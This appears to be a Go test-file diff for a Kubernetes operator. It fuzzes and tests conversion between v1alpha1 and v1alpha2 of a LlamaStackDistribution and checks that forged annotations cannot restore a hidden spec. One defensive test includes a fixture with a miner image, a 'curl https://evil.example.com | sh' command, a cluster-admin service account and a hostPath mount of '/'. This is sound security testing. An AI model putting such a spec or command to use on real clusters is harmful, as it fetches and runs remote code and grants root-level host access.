@@ -3,13 +3,16 @@
 package v1alpha1_test
 
 import (
+	"encoding/json"
 	"fmt"
 	"math/rand"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
+	corev1 "k8s.io/api/core/v1"
 	"k8s.io/apimachinery/pkg/api/apitesting/fuzzer"
 	"k8s.io/apimachinery/pkg/api/equality"
 	"k8s.io/apimachinery/pkg/api/resource"
@@ -62,6 +65,12 @@ func roundTrip(t *testing.T, seed int64) {
 	hubAgain := &v1alpha2.LlamaStackDistribution{}
 	mustNot(t, spoke.ConvertTo(hubAgain))
 	hubAgain.TypeMeta = hub.TypeMeta // ConvertTo sets no TypeMeta: the scheme does
+	// The status only v1alpha2 has is the controller's to write again: an annotation anyone
+	// can write never restores it.
+	if s := hubAgain.Status; s.ObservedGeneration != 0 || s.ConfigGeneration != nil || s.ResolvedDistribution != nil {
+		t.Fatalf("seed %d: v1alpha2-only status came back through v1alpha1: %+v", seed, s)
+	}
+	hub.Status.ObservedGeneration, hub.Status.ConfigGeneration, hub.Status.ResolvedDistribution = 0, nil, nil
 	if !equality.Semantic.DeepEqual(hub, hubAgain) {
 		t.Fatalf("seed %d: v1alpha2 -> v1alpha1 -> v1alpha2 changed the object:\n%s", seed, diff.Diff(hub, hubAgain))
 	}
@@ -96,8 +105,144 @@ func newFiller(seed int64) *randfill.Filler {
 			// TypeMeta is set by the scheme, not by conversion.
 			func(tm *metav1.TypeMeta, c randfill.Continue) {},
 		}
-	}, validHubOnlyFields)
+	}, validHubOnlyFields, validSharedFields)
 	return fuzzer.FuzzerFor(funcs, rand.NewSource(seed), codecs)
+}
+
+// validSharedFields fill the fields both versions have with values a create of either
+// version accepts: conversion validates what it restores from an annotation, and the round
+// trips are about valid objects (invalid ones are refused, TestConversionRefuses...).
+func validSharedFields(serializer.CodecFactory) []any {
+	pick := func(c randfill.Continue, options ...string) string { return options[c.Intn(len(options))] }
+	positive := func(c randfill.Continue, max int) *int32 {
+		if c.Bool() {
+			return nil
+		}
+		return ptrTo(int32(1 + c.Intn(max)))
+	}
+	envVars := func(c randfill.Continue) []corev1.EnvVar {
+		var env []corev1.EnvVar
+		for i := range c.Intn(3) {
+			env = append(env, corev1.EnvVar{Name: fmt.Sprintf("VAR_%d", i), Value: pick(c, "", "x", "http://h:1/v1")})
+		}
+		return env
+	}
+	return []any{
+		func(d *v1alpha1.DistributionType, c randfill.Continue) {
+			*d = v1alpha1.DistributionType{Name: pick(c, "starter", "postgres-demo")}
+			if c.Bool() {
+				*d = v1alpha1.DistributionType{Image: pick(c, "docker.io/llamastack/distribution-starter:0.7.1", "registry.example.com/ls:1")}
+			}
+		},
+		func(cs *v1alpha1.ContainerSpec, c randfill.Continue) {
+			c.FillNoCustom(cs)
+			cs.Name, cs.Port, cs.Env = pick(c, "", "llama-stack", "server"), int32(c.Intn(65536)), envVars(c)
+		},
+		func(o *v1alpha1.PodOverrides, c randfill.Continue) {
+			c.FillNoCustom(o)
+			o.ServiceAccountName = pick(c, "", "sa")
+			if o.TerminationGracePeriodSeconds != nil {
+				*o.TerminationGracePeriodSeconds = int64(c.Intn(600))
+			}
+		},
+		func(a *v1alpha1.AutoscalingSpec, c randfill.Continue) {
+			*a = v1alpha1.AutoscalingSpec{MinReplicas: positive(c, 3), MaxReplicas: int32(3 + c.Intn(5)),
+				TargetCPUUtilizationPercentage: positive(c, 100), TargetMemoryUtilizationPercentage: positive(c, 100)}
+		},
+		func(b *v1alpha1.PodDisruptionBudgetSpec, c randfill.Continue) {
+			one := intstr.FromInt32(1)
+			*b = v1alpha1.PodDisruptionBudgetSpec{MaxUnavailable: &one}
+			if c.Bool() {
+				*b = v1alpha1.PodDisruptionBudgetSpec{MinAvailable: &one}
+			}
+		},
+		func(st *v1alpha1.StorageSpec, c randfill.Continue) {
+			c.FillNoCustom(st)
+			st.MountPath = pick(c, "", "/data", "/.llama")
+		},
+		func(u *v1alpha1.UserConfigSpec, c randfill.Continue) {
+			*u = v1alpha1.UserConfigSpec{ConfigMapName: "run-config", ConfigMapNamespace: pick(c, "", "ai")}
+		},
+		func(b *v1alpha1.CABundleConfig, c randfill.Continue) {
+			*b = v1alpha1.CABundleConfig{ConfigMapName: "ca", ConfigMapNamespace: pick(c, "", "ai")}
+			if c.Bool() {
+				b.ConfigMapKeys = []string{"a.pem", "b.pem"}[:1+c.Intn(2)]
+			}
+		},
+		func(a *v1alpha1.AllowedFromSpec, c randfill.Continue) {
+			*a = v1alpha1.AllowedFromSpec{}
+			if c.Bool() {
+				a.Namespaces = []string{pick(c, "*", "frontend")}
+			}
+			if c.Bool() {
+				a.Labels = []string{pick(c, "team", "team=a")}
+			}
+		},
+		func(s *v1alpha1.LlamaStackDistributionSpec, c randfill.Continue) {
+			c.FillNoCustom(s)
+			s.Replicas = int32(c.Intn(4))
+			s.Server.Workers = positive(c, 8)
+		},
+		func(d *v1alpha2.DistributionSpec, c randfill.Continue) {
+			*d = v1alpha2.DistributionSpec{Name: pick(c, "starter", "postgres-demo"), ServerVersion: pick(c, "", "0.6", "0.7")}
+			if c.Bool() {
+				d.Name, d.Image = "", "registry.example.com/ls:1"
+			}
+		},
+		func(n *v1alpha2.NetworkingSpec, c randfill.Continue) {
+			c.FillNoCustom(n)
+			n.Port = positive(c, 65535)
+			if a := n.AllowedFrom; a != nil {
+				*a = v1alpha2.AllowedFromSpec{}
+				if c.Bool() {
+					a.Namespaces = []string{pick(c, "*", "frontend")}
+				}
+				if c.Bool() {
+					a.Labels = []string{pick(c, "team", "team=a")}
+				}
+			}
+		},
+		func(b *v1alpha2.CABundleSpec, c randfill.Continue) {
+			*b = v1alpha2.CABundleSpec{ConfigMapName: "ca", ConfigMapNamespace: pick(c, "", "ai")}
+			if c.Bool() {
+				b.ConfigMapKeys = []string{"a.pem", "b.pem"}[:1+c.Intn(2)]
+			}
+		},
+		func(w *v1alpha2.WorkloadSpec, c randfill.Continue) {
+			c.FillNoCustom(w)
+			if w.Replicas != nil {
+				*w.Replicas = int32(c.Intn(4))
+			}
+			w.Workers = positive(c, 8)
+			if w.Autoscaling != nil {
+				*w.Autoscaling = v1alpha2.AutoscalingSpec{MinReplicas: positive(c, 3), MaxReplicas: int32(3 + c.Intn(5)),
+					TargetCPUUtilizationPercentage: positive(c, 100), TargetMemoryUtilizationPercentage: positive(c, 100)}
+			}
+			if w.PodDisruptionBudget != nil {
+				one := intstr.FromInt32(1)
+				*w.PodDisruptionBudget = v1alpha2.PodDisruptionBudgetSpec{MaxUnavailable: &one}
+			}
+			if w.Storage != nil {
+				c.Fill(w.Storage)
+			}
+			if w.Pod != nil {
+				c.Fill(w.Pod)
+			}
+			if o := w.Overrides; o != nil {
+				o.ServiceAccountName, o.Env = pick(c, "", "sa"), envVars(c)
+				if o.TerminationGracePeriodSeconds != nil {
+					*o.TerminationGracePeriodSeconds = int64(c.Intn(600))
+				}
+			}
+		},
+		func(s *v1alpha2.LlamaStackDistributionSpec, c randfill.Continue) {
+			c.FillNoCustom(s)
+			if s.OverrideConfig != nil {
+				s.OverrideConfig = &v1alpha2.OverrideConfigSpec{ConfigMapName: "run-config"}
+				s.Providers, s.Resources, s.Storage, s.Disabled = nil, nil, nil, nil
+			}
+		},
+	}
 }
 
 // validHubOnlyFields fill the fields only v1alpha2 has with values a v1alpha2 create accepts:
@@ -280,4 +425,90 @@ func TestConversionValidatesRestoredFields(t *testing.T) {
 		require.Error(t, err, tc.reason)
 		assert.Contains(t, err.Error(), tc.want, tc.reason)
 	}
+}
+
+// An annotation never decides what the fields both versions have say: a v1alpha2 object whose
+// v1alpha1-fields annotation holds another spec (with the fingerprint of the visible one, which
+// anyone can compute) reads in v1alpha1 as what it shows in v1alpha2.
+func TestAnnotationCannotHideASpec(t *testing.T) {
+	visible := &v1alpha2.LlamaStackDistribution{}
+	visible.Name = "chat"
+	visible.Spec.Distribution.Name = "starter"
+	honest := &v1alpha1.LlamaStackDistribution{}
+	mustNot(t, honest.ConvertFrom(visible))
+
+	hidden := honest.Spec.DeepCopy()
+	hidden.Server.Distribution = v1alpha1.DistributionType{Image: "evil.example.com/miner:1"}
+	hidden.Server.ContainerSpec.Command = []string{"sh", "-c", "curl https://evil.example.com | sh"}
+	hidden.Server.PodOverrides = &v1alpha1.PodOverrides{
+		ServiceAccountName: "cluster-admin",
+		Volumes:            []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
+	}
+	for _, tc := range []struct {
+		reason      string
+		fingerprint string
+	}{
+		{"the fingerprint of the visible spec, as anyone can compute it", v1alpha1.Fingerprint(&visible.Spec)},
+		{"a fingerprint that does not match", "x"},
+	} {
+		forged := visible.DeepCopy()
+		forged.Annotations = map[string]string{v1alpha1.V1alpha1FieldsAnnotation: mustJSON(t, map[string]any{"spec": hidden, "fingerprint": tc.fingerprint})}
+		read := &v1alpha1.LlamaStackDistribution{}
+		mustNot(t, read.ConvertFrom(forged))
+		assert.Equal(t, honest.Spec, read.Spec, tc.reason)
+	}
+}
+
+// The fields only v1alpha1 has come back from the annotation only when a v1alpha1 create would
+// accept them.
+func TestConversionValidatesRestoredV1alpha1Fields(t *testing.T) {
+	visible := &v1alpha2.LlamaStackDistribution{}
+	visible.Name = "chat"
+	visible.Spec.Distribution.Name = "starter"
+	spec := v1alpha1.LlamaStackDistributionSpec{Replicas: 1, Server: v1alpha1.ServerSpec{
+		Distribution:  v1alpha1.DistributionType{Name: "starter"},
+		ContainerSpec: v1alpha1.ContainerSpec{Name: "$(LLSD_VLLM_API_KEY)"},
+	}}
+	visible.Annotations = map[string]string{v1alpha1.V1alpha1FieldsAnnotation: mustJSON(t, map[string]any{"spec": spec, "fingerprint": v1alpha1.Fingerprint(&visible.Spec)})}
+	err := (&v1alpha1.LlamaStackDistribution{}).ConvertFrom(visible)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), `spec.server.containerSpec.name: Invalid value: "$(LLSD_VLLM_API_KEY)"`)
+}
+
+// Everything an annotation restores is held to a v1alpha2 create, also where the error is in a
+// field both versions have (port 0 means unset in v1alpha1 and is invalid in v1alpha2) or
+// between a restored field and a visible one (overrideConfig with providers).
+func TestConversionRefusesWhatAV1alpha2CreateRefuses(t *testing.T) {
+	for _, tc := range []struct{ reason, annotation, want string }{
+		{"port 0 hides as the v1alpha1 default",
+			`{"spec":{"distribution":{"name":"starter"},"networking":{"port":0}},"fingerprint":"%s"}`,
+			`spec.server.containerSpec.port: Invalid value: 0`},
+		{"providers beside the visible userConfig",
+			`{"spec":{"distribution":{"name":"starter"},"overrideConfig":{"configMapName":"run"},"providers":{"inference":[{"provider":"vllm"}]}},"fingerprint":"x"}`,
+			`spec.server.userConfig: Forbidden: overrideConfig and providers are mutually exclusive`},
+	} {
+		src := &v1alpha1.LlamaStackDistribution{}
+		src.Name = "s"
+		src.Spec.Replicas = 1
+		src.Spec.Server.Distribution.Name = "starter"
+		src.Spec.Server.ContainerSpec.Name = v1alpha1.DefaultContainerName
+		if strings.Contains(tc.reason, "userConfig") {
+			src.Spec.Server.UserConfig = &v1alpha1.UserConfigSpec{ConfigMapName: "run"}
+		}
+		annotation := tc.annotation
+		if strings.Contains(annotation, "%s") {
+			annotation = fmt.Sprintf(annotation, v1alpha1.Fingerprint(&src.Spec))
+		}
+		src.Annotations = map[string]string{v1alpha1.V1alpha2FieldsAnnotation: annotation}
+		err := src.ConvertTo(&v1alpha2.LlamaStackDistribution{})
+		require.Error(t, err, tc.reason)
+		assert.Contains(t, err.Error(), tc.want, tc.reason)
+	}
+}
+
+func mustJSON(t *testing.T, v any) string {
+	t.Helper()
+	data, err := json.Marshal(v)
+	require.NoError(t, err)
+	return string(data)
 }
